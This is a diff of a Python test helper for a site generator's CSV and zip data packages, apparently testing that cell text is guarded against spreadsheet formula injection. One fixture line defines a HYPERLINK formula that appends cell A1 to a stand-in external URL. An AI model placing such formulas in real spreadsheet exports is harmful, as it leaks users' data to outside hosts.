@@ -3,15 +3,26 @@
 from __future__ import annotations
 
 import csv
-import json
-from collections.abc import Iterable, Mapping
+from collections.abc import Callable, Iterable, Mapping
 from dataclasses import replace
 from pathlib import Path, PurePosixPath
-from typing import Any
+from types import SimpleNamespace
+from typing import Any, cast
+from zipfile import ZipFile
 
-from generator.model import Site
-from generator.publish.data.descriptor import files, files_of
+from generator.model import Measurement, Site
+from generator.publish import keys, urls
+from generator.publish.data.descriptor import (
+    TABLES,
+    dictionary,
+    files,
+    site_data,
+    story_data,
+    told,
+)
 from generator.publish.data.package import Package, site_package, story_package
+from generator.publish.data.table import Type
+from generator.publish.data.text import unguarded
 from tests.publish.sample import site
 
 FORMULA = '=HYPERLINK("https://x.example/?"&A1, "prize")'
@@ -41,25 +52,63 @@ def packages(whole: Site) -> tuple[Package, ...]:
 
 
 def tables(whole: Site) -> dict[PurePosixPath, str]:
-    """Every file of the data."""
-    found = packages(whole)
-    own = [files_of(whole, package) for package in found]
-    return {path: text for part in (*own, files(whole, found[-1])) for path, text in part.items()}
+    """Every file of the data, those in a zip as if they lay in a folder of its name."""
+    found = {
+        package.path.with_suffix("") / name: text
+        for package in packages(whole)
+        for name, text in files(whole, package)
+    }
+    return {**found, urls.DICTIONARY: told(dictionary())}
+
+
+def zips(whole: Site) -> dict[PurePosixPath, bytes]:
+    """Every zip of the data."""
+    found = dict(site_data(whole))
+    for comparison in whole.stories:
+        found |= story_data(whole, comparison)
+    return found
 
 
 def written(whole: Site, root: Path) -> Path:
     """The files on disk; returns their folder."""
-    for path, text in tables(whole).items():
+    for path, data in {**zips(whole), urls.DICTIONARY: told(dictionary()).encode()}.items():
         (root / path).parent.mkdir(parents=True, exist_ok=True)
-        (root / path).write_bytes(text.encode())
+        (root / path).write_bytes(data)
     return root / "data"
 
 
+def unpacked(root: Path) -> None:
+    """Each zip below a folder, as a folder beside it."""
+    for path in root.rglob("*.zip"):
+        with ZipFile(path) as pack:
+            pack.extractall(path.with_suffix(""))
+
+
 def rows(files: Mapping[PurePosixPath, str], path: str) -> list[dict[str, Any]]:
-    """The rows of a JSON table, by its path below `data/`; None is what they leave out."""
-    place = PurePosixPath("data", path)
-    names = files[place.with_suffix(".csv")].partition("\n")[0].split(",")
-    return [dict.fromkeys(names) | row for row in json.loads(files[place])]
+    """The rows of a table, by its path below `data/`, with values of their types."""
+    place = PurePosixPath("data", f"{path}.csv")
+    kind = "site" if place.parent.name == "site" else "stories"
+    types = {f.name: f.type for t in TABLES[kind] if t.name == place.stem for f in t.fields}
+    return [
+        {name: typed(cell, types[name]) for name, cell in row.items()}
+        for row in (cells(files[place]) if place in files else ())
+    ]
+
+
+def typed(cell: str, type_: Type) -> object:
+    """What a cell says."""
+    kinds: dict[str, Callable[[str], object]] = {
+        "integer": int,
+        "number": float,
+        "boolean": "true".__eq__,
+    }
+    return kinds.get(type_, unguarded)(cell) if cell else None
+
+
+def named(row: Mapping[str, Any]) -> tuple[str, str]:
+    """A row as a page names it."""
+    own = row["row"] if "row" in row else keys.figure(cast("Measurement", SimpleNamespace(**row)))
+    return row["where"], own
 
 
 def cells(text: str) -> list[dict[str, str]]:
